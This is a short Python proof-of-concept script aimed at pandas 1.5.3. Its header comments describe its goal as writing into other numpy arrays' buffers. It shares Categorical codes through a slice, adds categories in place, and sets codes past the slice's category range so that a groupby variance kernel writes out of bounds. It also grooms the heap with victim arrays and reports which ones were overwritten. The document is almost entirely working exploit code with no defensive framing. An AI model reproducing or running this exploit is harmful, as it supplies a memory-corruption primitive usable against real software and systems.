# source: pandas 1.5.3 pandas/core/arrays/_mixins.py NDArrayBackedExtensionArray (cat[:] slice; groupby kernel group_var (pandas/_libs/groupby.pyx, labels unchecked against ngroups) shares _ndarray codes without copying) + categorical.py add_categories(inplace=True)/set_categories(rename=True) keep the same codes array; take_nd/__array__ trust codes < len(categories)
# family: shared Categorical codes -> groupby kernel out-of-bounds write (variant .var)
# goal: writes into other numpy arrays' buffers (victim arrays change)
import numpy as np
import pandas as pd

n = 130                            # int16 codes; kernel buffers are n*8 = 1040 bytes
cat = pd.Categorical([0] * 8, categories=list(range(n)))
peek = cat[:]                      # shares cat's codes, keeps n categories
victims = [np.zeros(n) for _ in range(200)]
for k in range(180, 100, -2):
    victims[k] = None              # holes between live victims
cat.add_categories(list(range(n, n + 10)), inplace=True)
cat[:] = [n + 2] * 8               # one chunk (1056 bytes = 132 words) past a buffer
s = pd.Series([4242.0] * 8)
r = s.groupby(peek).var()
print("groups:", len(r), "non-null:", int(r.notna().sum()))
changed = [(k, v[:2].tolist()) for k, v in enumerate(victims) if v is not None and v.any()]
print("victim arrays written by the kernel:", changed)
